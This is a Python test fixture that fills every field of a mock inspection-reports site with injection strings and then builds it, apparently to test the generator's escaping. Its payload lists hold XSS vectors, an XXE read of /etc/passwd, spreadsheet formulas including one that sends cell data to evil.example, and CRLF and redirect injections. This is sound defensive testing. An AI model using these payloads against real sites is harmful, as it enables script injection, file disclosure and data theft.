"""A small site that has a text in every field that takes one, and whatever is wanted in all of them."""

import json
import pathlib
import subprocess

# What is to be harmless wherever it stands.
PAYLOADS = [
    "<script>boom()</script>",
    "\"><img src=x onerror=boom()>",
    "'><svg/onload=boom()>",
    "' onmouseover='boom()' autofocus onfocus='boom()",
    "\" onmouseover=\"boom()\" style=\"position:fixed",
    "</title></textarea></style></script><script>boom()</script>",
    "<!--<script>",
    "--><script>boom()</script>",
    "]]><script>boom()</script>",
    "&lt;script&gt;boom()&lt;/script&gt;&quot;&#60;&#x3C;&amp;amp;",
    "javascript:boom()",
    "{{title}}{{{site.title}}}{{#site}}{{/site}}{{>layout}}{{=<% %>=}}",
    "${boom()} `boom()` \\\";boom();// \\u003cscript> \\",
    "\u2028boom()\u2029",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "+1|' /C calc'!A0",
    "-1|' /C calc'!A0",
    "@SUM(1;2)",
    "\t=1+1",
    ",;:\\n\\,END:VCALENDAR",
    "/* %0d%0aSet-Cookie: a=b",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<form action=https://evil.example/><input name=x autofocus>",
    "<a href=javascript:boom()>x</a>[x](javascript:boom())<javascript:boom()>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=boom()&gt;\">",
    "\u202eesrever\u202c e\u0301 \U0001f46e\U0001f3fd \u05e9\u05dc\u05d5\u05dd",
    "\u0000", "\u001b[31m", "\ud800",
    "x" * 3000,
]

# Addresses that nobody may be led to, as they are written in YAML and in Markdown.
ADDRESSES = [
    "javascript:boom()", "JaVaScRiPt:boom()", " javascript:boom()", "java\tscript:boom()", "vbscript:boom()",
    "data:text/html,<script>boom()</script>", "//evil.example/", "/\\evil.example/", "https:evil.example",
    "https://example.org/\" onmouseover=\"boom()", "https://example.org/<script>", "&#106;avascript:boom()",
    "javascript&colon;boom()", "blob:x", "file:///etc/passwd",
]


# A picture of one dot.
PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082")


def escaped(text):
    """A text as Markdown that means just that."""
    return "".join("\\" + one if one in "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~" else one for one in text)


class HostileSite:
    """The files of the site; `text(field)` is what stands in a field, and `words` says whether also where a word of the site's
    own choice does, which becomes a part of paths."""

    def __init__(self, folder, text, has_words=False, address=None):
        self.folder = pathlib.Path(folder)
        self.fields = []
        self._text = text
        self._has_words = has_words
        self._address = address
        self._write()

    def t(self, field):
        self.fields.append(field)
        return self._text(field)

    def w(self, field, plain):
        return self.t(field) if self._has_words else plain

    def a(self, name):
        return self._address or f"https://example.org/{name}?a=1&b='c'"

    def common(self, kind):
        t = lambda name: self.t(f"{kind} {name}")
        return {
            "title": t("title"), "summary": t("summary"),
            "sources": [{"url": self.a(kind), "title": t("source"), "format": t("format"), "archive": self.a(kind + "-a"), "seen": "2021-01-01"}],
            "discrepancies": [{"what": t("what"), "here": t("here"), "there": t("there"), "source": self.a(kind)}],
            "corrections": [{"date": "2021-02-03", "text": t("correction")}],
            "extra": {"one": t("extra"), "many": [t("extra list")]},
        }

    def body(self, kind):
        t = lambda name: escaped(self.t(f"{kind} text {name}"))
        code = self.t(f"{kind} text code")
        fence = "`" * (8 + code.count("`"))
        return "\n\n".join([
            f"## {t('heading')}", f"{t('paragraph')}[^1] *{t('emphasis')}* [{t('link')}](https://example.org/ \"{t('link title')}\")",
            f"{fence} {code} {fence}", f"{fence}\n{code}\n{fence}",
            f"| {t('header')} | b |\n|---|---|\n| {t('cell')} | d |", f"- {t('item')}\n- [x] {t('task')}",
            f"> {t('quotation')}\n> — {t('cite')}", f"> [!NOTE]\n> {t('callout')}",
            f"![{t('alternative')}](picture.png \"{t('caption')}\")", f"[^1]: {t('footnote')}"])

    def finding(self):
        return {
            "id": "R1", "kind": self.w("finding kind", "recommendation"), "text": escaped(self.t("finding text")), "to": ["force"],
            "due": self.t("finding due"), "due_date": "2021-06-01", "topics": ["topic"],
            "history": [{"axis": "answered", "as_recorded_by": self.t("history recorded"), "status": "accepted", "by": "force",
                         "source": self.a("history"), "note": self.t("history note")}]}

    def _write(self):
        t, w = self.t, self.w
        self.put("site.yml", self.configuration(), None)
        self.put("organisations/force.md", self.common("organisation") | {
            "short": t("organisation short"), "also_known_as": [t("organisation also")], "type": w("organisation type", "force"),
            "url": self.a("force"), "former_names": [{"name": t("former name"), "short": t("former short"), "until": "2022"}]}, "organisation")
        self.put("topics/topic.md", self.common("topic") | {"also_known_as": [t("topic also")]}, "topic")
        self.put("pages/about.md", self.common("page"), "page")
        self.put("events/event.md", self.common("event") | {"date": "2021-05-05", "organisations": ["force"], "topics": ["topic"]}, "event")
        self.put("inspections/report.md", self.common("inspection") | {
            "short_title": t("short title"), "inspectorate": ["force"], "subject": ["force"], "kind": w("inspection kind", "peel"),
            "published": "2021-01-01", "sent": "2021-01-01", "regime": "act", "topics": ["topic"],
            "report": {"url": self.a("report"), "title": t("report title"), "format": t("report format"), "archive": self.a("report-a")},
            "former_urls": [self.a("former")], "grades": [{"area": w("area", "an-area"), "grade": w("grade", "good")}],
            "parts": [{"title": t("part"), "published": "2021-01-02"}], "amended": [{"date": "2021-03-03", "what": t("amended")}],
            "findings": [self.finding()]}, "inspection")
        self.put("responses/answer.md", self.common("response") | {
            "responder": ["force"], "responds_to": ["report"], "published": "2021-02-02", "form": w("form", "statement"), "statutory": True,
            "signatory": t("signatory"), "position": t("position"), "topics": ["topic"],
            "answers": [{"finding": "report#R1", "answer": "accepted", "action": t("action"), "reason": t("reason"), "by_when": t("by when")}],
            "positions": [{"topic": "topic", "position": w("position word", "support"), "note": t("position note")}]}, "response")

        self.put("responses/gone.md", {
            "title": t("withdrawn title"), "responder": ["force"], "responds_to": ["report"], "published": "2021-02-02", "form": "statement",
            "withdrawn": {"date": "2021-04-04", "reason": t("withdrawn reason")}}, "withdrawn")

    def configuration(self):
        t = self.t
        return {
            "title": t("site title"), "description": t("site description"), "base_url": "https://example.org/", "language": "en-GB",
            "timezone": "Europe/London", "publisher": "force",
            "contact": {"email": "a@example.org", "phone": "0123 456", "address": t("contact address")},
            "social": [{"label": t("social label"), "link": self.a("social")}],
            "menus": {"main": [{"label": t("main label"), "link": "/about/"}], "footer": [{"label": t("footer label"), "link": self.a("footer")}]},
            "labels": {
                "inspection_kinds": {"peel": t("label of a kind")}, "forms": {"statement": t("label of a form")},
                "positions": {"support": t("label of a position")}, "organisation_types": {"force": t("label of a type")},
                "finding_kinds": {"recommendation": t("label of a finding")}, "grades": {"good": t("label of a grade")},
                "statuses": {"accepted": t("label of a status")}, "areas": {"an-area": t("label of an area")}},
            "regimes": {"act": {
                "title": t("regime title"), "url": self.a("regime"), "who": ["force"], "within": 56, "unit": "days", "counting": "exclusive",
                "from": "publication", "hard": True, "finding_kinds": ["recommendation"], "note": t("regime note")}},
            "notices": [{"label": t("notice label"), "days": 5, "counting": "clear", "for": t("notice for"), "link": self.a("notice")}],
            "glossary": {"QZX": t("glossary")},
            "link_exceptions": [{"url": self.a("excepted"), "reason": t("exception reason"), "until": "2030-01-01"}],
        }

    def put(self, path, keys, kind):
        file = self.folder / "content" / path
        file.parent.mkdir(parents=True, exist_ok=True)
        (file.parent / "picture.png").write_bytes(PICTURE)
        lines = [f"{json.dumps(key)}: {json.dumps(value, ensure_ascii=False)}" for key, value in keys.items()]
        front = "\n".join(lines) + "\n"
        # A lone half of a surrogate pair is no text at all: its bytes are as wrong as it is.
        text = front if kind is None else f"---\n{front}---\n\n{self.body(kind)}\n\nQZX.\n"
        file.write_bytes(text.encode("utf-8", "surrogatepass"))

    def build(self, program):
        """Builds the site to `public`; gives the status and what was said."""
        result = subprocess.run(
            [program, "build", "--site", self.folder, "--output", self.folder / "public", "--as-of", "2024-01-01", "--format", "json"],
            capture_output=True, timeout=60)
        return result.returncode, result.stdout.decode()
